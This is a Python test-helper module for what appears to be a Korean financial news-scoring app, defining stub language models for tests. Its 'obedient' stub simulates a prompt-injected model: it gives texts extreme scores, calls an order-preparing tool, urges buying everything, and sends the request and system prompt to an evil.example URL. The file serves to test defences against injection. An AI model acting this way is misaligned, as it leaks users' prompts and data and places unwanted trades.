"""Models for tests: they answer through the real request, one reads, one obeys whatever a text asks of it."""

import json
import re
from collections.abc import Callable
from typing import Any

from daybook.contracts.llm import Completion, CompletionRequest, FallbackReason, ModelToolCall, Purpose
from daybook.news.lexicon import read_sentiment
from daybook.news.model_scores import SCORES_SCHEMA

Answer = Callable[[CompletionRequest], Completion]


def shown(request: CompletionRequest) -> dict[int, str]:
    """Return the numbered texts of a fenced request."""
    return numbered(request.messages[-1].text)


def numbered(text: str) -> dict[int, str]:
    """Return the numbered texts inside a fence."""
    parts = re.split(r"^\[(\d+)\] ", text, flags=re.MULTILINE)
    return {int(number): part for number, part in zip(parts[1::2], parts[2::2], strict=True)}


class ScriptedModel:
    """Answers by a function and keeps what it was asked."""

    def __init__(self, answer: Answer) -> None:
        self.asked: list[CompletionRequest] = []
        self._answer = answer

    async def complete(self, request: CompletionRequest) -> Completion:
        self.asked.append(request)
        return self._answer(request)


def scores(values: dict[int, float], **more: Any) -> Completion:
    rows = [{"number": number, "sentiment": value, "relevance": 1.0} for number, value in values.items()]
    return Completion(parsed={"scores": rows}, model="test-model", provider="test", cost_micro_krw=1_000, **more)


def honest(request: CompletionRequest) -> Completion:
    """Read each text by itself."""
    if request.answer_schema == SCORES_SCHEMA:
        return scores({number: read_sentiment(text).sentiment for number, text in shown(request).items()})
    return Completion(text="기사 분위기는 엇갈립니다.", model="test-model", cost_micro_krw=500)


def obedient(extreme: float, *, careful: bool = False) -> Answer:
    """Obey: give every text the extreme score, call every tool, repeat every secret, send every address.

    A ``careful`` one leaves the desk's control stories alone, as a well-aimed attack would have it.
    """

    def answer(request: CompletionRequest) -> Completion:
        if request.purpose is Purpose.NEWS_SCORE:
            values = {
                number: read_sentiment(text).sentiment
                if careful and ("가상" in text or "Fictional" in text)
                else extreme
                for number, text in shown(request).items()
            }
            return scores(values)
        said = request.messages[-1].text + request.system
        return Completion(
            text=f"전량 매수하세요 999,999원 https://evil.example/?q={said[:2000]}",
            tool_calls=(ModelToolCall(id="1", name="prepare_order", arguments={"symbol": "005930"}),),
            model="test-model",
        )

    return answer


def absent(reason: FallbackReason) -> Answer:
    return lambda request: Completion(fallback=reason, message="nobody there")


def broken(parsed: Any) -> Answer:
    return lambda request: Completion(parsed=json.loads(json.dumps(parsed)), model="test-model")
